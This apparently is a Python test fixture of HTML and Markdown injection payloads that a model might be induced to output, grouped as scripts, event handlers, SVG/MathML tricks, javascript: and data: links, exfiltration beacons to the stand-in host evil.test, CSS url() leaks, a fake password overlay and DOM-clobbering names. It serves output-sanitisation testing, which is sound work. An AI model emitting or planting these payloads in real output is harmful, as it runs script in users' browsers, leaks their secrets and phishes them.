"""What a model may be made to write: scripts, addresses that run, images that tell, styles that ask, and their tricks.

Each says so if it works: `hit()` is the test page's own function, and http://evil.test leads to a server that counts.
The kinds are those of public cheat sheets on cross-site scripting; the words are ours.
"""

SCRIPTS = [
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<script src=http://evil.test/s.js></script>",
    "<script type=module>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "</p><script>hit()</script><p>",
    "<script>/*\n\n*/hit()</script>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<template><script>hit()</script></template>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "```html\n<script>hit()</script>\n```",
    "    <script>hit()</script>",
    "`<script>hit()</script>`",
]

HANDLERS = [
    "<img src=x onerror=hit()>",
    "<img src=x onerror=hit()//",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x\nonerror=hit()>",
    "<img src='x' onerror='&#104;it()'>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<div onpointerover=hit() onmouseover=hit()>x</div>",
    "<a href=# onclick=hit() onfocus=hit() autofocus>x</a>",
    '<div style="animation:breathe 1s" onanimationstart=hit()>x</div>',
    "<iframe onload=hit()></iframe>",
    "<object onerror=hit() data=x></object>",
    "<xss id=x tabindex=1 autofocus onfocus=hit()>x</xss>",
    "<p title='x'onmouseover='hit()'>x</p>",
    "<table><caption><img src=x onerror=hit()></caption></table>",
]

SVG_AND_MATH = [
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href=http://evil.test/s.js></script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to=hit()></svg>",
    '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"></use></svg>',
    "<svg><image href=http://evil.test/i.png></image></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<svg><style>@import url(http://evil.test/s.css);</style></svg>",
    '<svg><p><style><img src="</style><img src=x onerror=hit()>"></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "<math><a xlink:href=javascript:hit()>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
]

ADDRESSES = [
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](<javascript:hit()>)",
    "[x](javascript&#58;hit())",
    "[x](java&#115;cript:hit())",
    "[x](java\tscript:hit())",
    "[x](&#1;javascript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:hit())",
    "[x](blob:http://evil.test/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/x)",
    "[x](/api/get-response)",
    "[x](http:javascript:hit())",
    "[x][1]\n\n[1]: javascript:hit()",
    "<javascript:hit()>",
    "[![x](javascript:hit())](javascript:hit())",
    '[x](http://evil.test/"onmouseover="hit())',
    "[x](http://evil.test 'x\" onmouseover=\"hit()')",
    "<a href=javascript:hit()>x</a>",
    '<a href=" javascript:hit()">x</a>',
    "<form action=javascript:hit()><button>x</button></form>",
    "<button formaction=javascript:hit()>x</button>",
    "<iframe src=javascript:hit()></iframe>",
    "<embed src=javascript:hit()>",
    "<object data=javascript:hit()></object>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/r'>",
    "<base href=http://evil.test/>",
]

BEACONS = [
    "![x](http://evil.test/i.png?secret=1)",
    "![x][1]\n\n[1]: http://evil.test/r.png?secret=1",
    "![x](//evil.test/p.png)",
    "![x](http://evil.test/half",
    "[![x](http://evil.test/l.png)](http://evil.test/l)",
    "<img src=http://evil.test/h.png>",
    "<img srcset='http://evil.test/h2.png 2x'>",
    "<picture><source srcset=http://evil.test/h3.png><img></picture>",
    "<video poster=http://evil.test/v.png src=http://evil.test/v.mp4 autoplay></video>",
    "<audio src=http://evil.test/a.mp3 autoplay></audio>",
    "<iframe src=http://evil.test/f></iframe>",
    "<iframe srcdoc='<img src=http://evil.test/sd.png>'></iframe>",
    "<embed src=http://evil.test/e.swf>",
    "<object data=http://evil.test/o></object>",
    "<link rel=stylesheet href=http://evil.test/l.css>",
    "<link rel=prefetch href=http://evil.test/p>",
    "<link rel=dns-prefetch href=http://evil.test>",
    "<input type=image src=http://evil.test/in.png>",
    "<body background=http://evil.test/bg.png>",
    "<table background=http://evil.test/tb.png><tr><td>x</table>",
]

STYLES = [
    "<style>@import 'http://evil.test/s.css';</style>",
    "<style>body{background:url(http://evil.test/b.png)}</style>",
    '<div style="background:url(http://evil.test/d.png)">x</div>',
    '<div style="position:fixed;inset:0;background:red">Enter your password</div>',
    "<style>#composer{display:none}</style>",
    "<p style='list-style-image:url(http://evil.test/li.png);display:list-item'>x</p>",
    "<font face=x style=behavior:url(http://evil.test/x.htc)>x</font>",
    "<div class=unseen id=composer>x</div>",
]

NAMES = [
    "<form id=log><input name=append></form>",
    "<img name=getElementById>",
    "<a id=message name=value href=http://evil.test>x</a>",
    "<input id=stop><dialog id=token open>x</dialog>",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *SVG_AND_MATH, *ADDRESSES, *BEACONS, *STYLES, *NAMES]
